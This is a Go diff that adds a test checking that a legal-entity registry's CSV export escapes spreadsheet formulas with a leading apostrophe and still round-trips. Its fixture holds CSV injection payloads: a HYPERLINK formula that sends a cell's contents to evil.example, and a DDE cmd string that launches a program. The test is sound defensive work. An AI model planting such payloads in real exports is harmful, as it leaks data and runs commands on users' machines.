@@ -2,6 +2,7 @@ package legal_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"strings"
 	"testing"
 
@@ -89,5 +90,45 @@ func TestParseCSVErrors(t *testing.T) {
 				t.Errorf("got %d entities with an error; want none", len(got))
 			}
 		})
+	}
+}
+
+// TestWriteCSVEscapesFormulas: a cell that begins with = + - @, a tab or
+// a carriage return is written with a leading apostrophe, so a
+// spreadsheet shows it as text instead of running it; the export still
+// imports to the same registry.
+func TestWriteCSVEscapesFormulas(t *testing.T) {
+	hostile := []newsroom.LegalEntity{{
+		Name:     `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+		Forms:    map[string][]string{"en": {"+Plus Front"}, "ru": {"-минус"}},
+		Marker:   "@",
+		Notes:    map[string]string{"en": "\tindented", "ru": "\rcarriage"},
+		Listings: []newsroom.LegalListing{{List: "=cmd|' /C calc'!A0", From: day("2021-05-01")}},
+	}}
+	var buf bytes.Buffer
+	if err := legal.WriteCSV(&buf, hostile); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range recs[1:] {
+		for i, c := range rec {
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("column %s = %q: a spreadsheet would run or strip it", recs[0][i], c)
+			}
+		}
+	}
+	if !strings.Contains(buf.String(), `'=HYPERLINK`) || !strings.Contains(buf.String(), "'@") {
+		t.Errorf("export lacks the escaped cells:\n%s", buf.String())
+	}
+	again, err := legal.ParseCSV(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if again[0].Name != hostile[0].Name || again[0].Marker != "@" || again[0].Listings[0].List != hostile[0].Listings[0].List ||
+		again[0].Forms["en"][0] != "+Plus Front" || again[0].Forms["ru"][0] != "-минус" {
+		t.Errorf("round trip: %+v, want the original values back", again[0])
 	}
 }
